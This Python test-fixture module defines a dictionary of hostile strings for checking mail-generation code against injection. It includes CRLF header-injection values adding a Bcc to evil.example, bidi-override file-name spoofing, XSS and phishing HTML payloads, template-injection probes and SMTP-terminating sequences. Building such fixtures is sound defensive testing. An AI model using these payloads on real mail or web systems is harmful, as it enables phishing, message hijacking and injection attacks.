"""Texts that somebody might type into a name, a title, a reason or a note in order to do harm in a mail."""

_SEPARATORS = {"cr": "\r", "lf": "\n", "crlf": "\r\n", "vt": "\v", "ff": "\f", "nel": "\x85"}
_SEPARATORS |= {"u2028": "\u2028", "u2029": "\u2029", "nul": "\x00", "fs": "\x1c", "gs": "\x1d", "rs": "\x1e"}
_HEADERS = ("Bcc: eve@evil.example", "Subject: Pay now", "Content-Type: text/html")
_TURNING = {f"u{ord(char):04x}": char for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"}
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" style="background:url(javascript:alert(1))',
    "</title><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "<!--[if mso]><v:rect><![endif]-->",
    "--><script>alert(1)</script><!--",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://evil.example">Confirm</a>',
    "<iframe src=https://evil.example></iframe>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=p></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<plaintext>",
    "</td></tr></table></body></html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
_TEMPLATES = ("{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "%(title)s", "${7*7}", "{{ site.secret_key }}")
_ENCODED = (
    "=?utf-8?q?x=0d=0aBcc:_eve@evil.example?=",
    "=?utf-8?b?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=",
    "=?utf-8?q?=3Cscript=3E?= =?utf-8?q?=0aX:1?=",
)
_ADDRESSES = (
    'Ada" <eve@evil.example>, "x',
    "Ada <eve@evil.example>",
    "a,b;c:d@evil.example",
    "\\",
    "ends with a backslash\\",
    "(a comment) name",
    "<>",
    '"""',
)
_OTHER = (
    "\x1b[31mred\x1b[0m",
    "\x08\x08\x08",
    "\x7f",
    "\x9b31m",
    "\U000e0041\U000e0042",
    "a" * 1500,
    "å" * 400,
    "\N{PILE OF POO}" * 100,
    "\n.\n",
    ".\r\nQUIT\r\n",
    "From nobody",
    "--=_boundary--",
    "\t\t",
    "\u200b\u200d\ufeff",
    "e\u0301" * 300,
)

HOSTILE: dict[str, str] = {
    **{f"line {name}": f"Ada{char}{char.join(_HEADERS)}" for name, char in _SEPARATORS.items()},
    **{f"turning {name}": f"Ada{char}gnp.exe" for name, char in _TURNING.items()},
    **{f"script {number}": text for number, text in enumerate(_SCRIPTS)},
    **{f"template {number}": text for number, text in enumerate(_TEMPLATES)},
    **{f"encoded {number}": text for number, text in enumerate(_ENCODED)},
    **{f"address {number}": text for number, text in enumerate(_ADDRESSES)},
    **{f"other {number}": text for number, text in enumerate(_OTHER)},
}
"""Each with a name by which a failing test can be told."""
